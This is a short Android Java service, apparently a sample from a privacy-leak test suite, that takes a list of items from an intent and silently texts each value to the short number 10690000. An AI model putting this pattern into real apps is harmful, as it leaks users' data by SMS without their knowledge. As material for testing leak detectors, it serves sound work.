package cn.privlens.suite.parcelable_list;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.SmsManager;
import java.util.List;

public class Uploader extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
        List<Item> items = intent == null ? null : intent.<Item>getParcelableArrayListExtra("items");
        if (items != null) {
            for (Item item : items) {
                SmsManager.getDefault().sendTextMessage("10690000", null, item.value, null, null);
            }
        }
        return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
